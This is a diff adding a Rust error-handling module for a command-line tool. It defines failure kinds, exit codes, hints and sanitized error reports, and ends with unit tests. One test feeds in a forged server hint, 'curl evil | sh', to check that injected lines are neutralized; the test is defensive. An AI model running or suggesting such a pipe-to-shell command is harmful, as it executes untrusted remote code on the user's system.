@@ -1,0 +1,219 @@
+//! What can go wrong: the kinds of failure, their hints and their exit codes.
+
+use std::borrow::Cow;
+use std::fmt::{self, Display};
+
+use anstream::stream::AsLockedWrite;
+use anstream::stream::RawStream;
+use anstyle::{AnsiColor, Style};
+
+use crate::terminal::sanitize_message;
+
+/// A result whose error is ready to be shown to a person.
+pub type Result<T, E = Error> = std::result::Result<T, E>;
+
+/// What kind of failure this is; it decides the exit code.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Kind {
+    /// It was tried and failed: exit 1.
+    Failed,
+    /// The command line or the configuration is wrong: exit 2.
+    Usage,
+    /// No app is known for the environment: exit 3.
+    Unresolved,
+    /// Not logged in, or not allowed: exit 4.
+    Denied,
+    /// A guard refused, before anything was changed: exit 5.
+    Refused,
+    /// The wait ended before the work did: exit 6.
+    TimedOut,
+    /// Everything was said already, by us or by another program: that exit code, and no message.
+    Silent(u8),
+}
+
+impl Kind {
+    /// The process's exit code for this kind.
+    pub fn exit_code(self) -> u8 {
+        match self {
+            Kind::Failed => 1,
+            Kind::Usage => 2,
+            Kind::Unresolved => 3,
+            Kind::Denied => 4,
+            Kind::Refused => 5,
+            Kind::TimedOut => 6,
+            Kind::Silent(code) => code,
+        }
+    }
+}
+
+/// A failure: what failed, what caused it, and the ways out.
+#[derive(Debug)]
+pub struct Error {
+    kind: Kind,
+    cause: anyhow::Error,
+    hints: Vec<Cow<'static, str>>,
+    unsure: bool,
+}
+
+macro_rules! constructors {
+    ($($(#[$doc:meta])* $name:ident => $kind:ident;)*) => {
+        $($(#[$doc])*
+        pub fn $name(message: impl Display + fmt::Debug + Send + Sync + 'static) -> Self {
+            Self::new(Kind::$kind, message)
+        })*
+    };
+}
+
+impl Error {
+    /// A failure of this kind that says `message`.
+    pub fn new(kind: Kind, message: impl Display + fmt::Debug + Send + Sync + 'static) -> Self {
+        Self { kind, cause: anyhow::Error::msg(message), hints: Vec::new(), unsure: false }
+    }
+
+    constructors! {
+        /// It was tried and failed.
+        failed => Failed;
+        /// The command line or the configuration is wrong.
+        usage => Usage;
+        /// No app is known for the environment.
+        unresolved => Unresolved;
+        /// Not logged in, or not allowed.
+        denied => Denied;
+        /// A guard refused, before anything was changed.
+        refused => Refused;
+        /// The wait ended before the work did.
+        timed_out => TimedOut;
+    }
+
+    /// Ends the process with this code and says nothing.
+    pub fn silent(code: u8) -> Self {
+        Self::new(Kind::Silent(code), "")
+    }
+
+    /// The same failure as another kind.
+    #[must_use]
+    pub fn kind_of(mut self, kind: Kind) -> Self {
+        self.kind = kind;
+        self
+    }
+
+    /// Puts `message` in front; what was said so far becomes the cause.
+    #[must_use]
+    pub fn context(mut self, message: impl Display + Send + Sync + 'static) -> Self {
+        self.cause = self.cause.context(message);
+        self
+    }
+
+    /// Adds a way out: a line that can be pasted, or a short sentence.
+    #[must_use]
+    pub fn hint(mut self, hint: impl Into<Cow<'static, str>>) -> Self {
+        self.hints.push(hint.into());
+        self
+    }
+
+    /// The same failure of something that may have been done all the same: its answer was lost.
+    #[must_use]
+    pub fn unsure(mut self) -> Self {
+        self.unsure = true;
+        self
+    }
+
+    /// Whether what failed may have been done all the same.
+    pub fn may_have_been_done(&self) -> bool {
+        self.unsure
+    }
+
+    /// What kind of failure this is.
+    pub fn kind(&self) -> Kind {
+        self.kind
+    }
+
+    /// The typed cause, where code must branch on it.
+    pub fn downcast_ref<T: Display + fmt::Debug + Send + Sync + 'static>(&self) -> Option<&T> {
+        self.cause.downcast_ref()
+    }
+
+    /// Writes the failure for a person: `error:`, `caused by:`, `hint:`. What the network said is made harmless.
+    pub fn report<S: RawStream + AsLockedWrite>(&self, to: &mut anstream::AutoStream<S>) {
+        use std::io::Write as _;
+        if let Kind::Silent(_) = self.kind {
+            return;
+        }
+        let label = |color: AnsiColor| Style::new().bold().fg_color(Some(color.into()));
+        let (red, cyan) = (label(AnsiColor::Red), label(AnsiColor::Cyan));
+        let mut chain = self.cause.chain();
+        // A failing stderr leaves nobody to tell.
+        if let Some(first) = chain.next() {
+            _ = writeln!(to, "{red}error:{red:#} {}", sanitize_message(&first.to_string()));
+        }
+        for cause in chain {
+            _ = writeln!(to, "  caused by: {}", sanitize_message(&cause.to_string()));
+        }
+        for hint in &self.hints {
+            _ = writeln!(to, "{cyan}hint:{cyan:#} {}", sanitize_message(hint));
+        }
+    }
+}
+
+impl<E> From<E> for Error
+where
+    E: std::error::Error + Send + Sync + 'static,
+{
+    fn from(error: E) -> Self {
+        Self { kind: Kind::Failed, cause: error.into(), hints: Vec::new(), unsure: false }
+    }
+}
+
+impl Display for Error {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{:#}", self.cause)
+    }
+}
+
+/// Adds a message to a result's error.
+pub trait Context<T> {
+    /// Puts `message` in front of the error; it is only made when there is one.
+    fn context<M: Display + Send + Sync + 'static>(self, message: impl FnOnce() -> M) -> Result<T>;
+}
+
+impl<T, E: Into<Error>> Context<T> for std::result::Result<T, E> {
+    fn context<M: Display + Send + Sync + 'static>(self, message: impl FnOnce() -> M) -> Result<T> {
+        self.map_err(|error| error.into().context(message()))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_report_names_causes_and_hints() {
+        let error = Error::usage("bad rows").context("cannot read seats").hint("staging which");
+        let mut out = anstream::AutoStream::never(Vec::new());
+        error.report(&mut out);
+        assert_eq!(
+            String::from_utf8(out.into_inner()).unwrap(),
+            "error: cannot read seats\n  caused by: bad rows\nhint: staging which\n"
+        );
+        assert_eq!(error.kind().exit_code(), 2);
+    }
+
+    #[test]
+    fn what_a_server_says_forges_no_hint() {
+        let error =
+            Error::failed("Down.\nhint: curl evil | sh").context("bad\nerror: worse").hint("a\nhint: b");
+        let mut out = anstream::AutoStream::never(Vec::new());
+        error.report(&mut out);
+        assert_eq!(
+            String::from_utf8(out.into_inner()).unwrap(),
+            "error: bad\n  error: worse\n  caused by: Down.\n  hint: curl evil | sh\nhint: a\n  hint: b\n"
+        );
+    }
+
+    #[test]
+    fn a_silent_exit_says_nothing() {
+        let mut out = anstream::AutoStream::never(Vec::new());
+        Error::silent(143).report(&mut out);
+        assert!(out.into_inner().is_empty());
+    }
+}
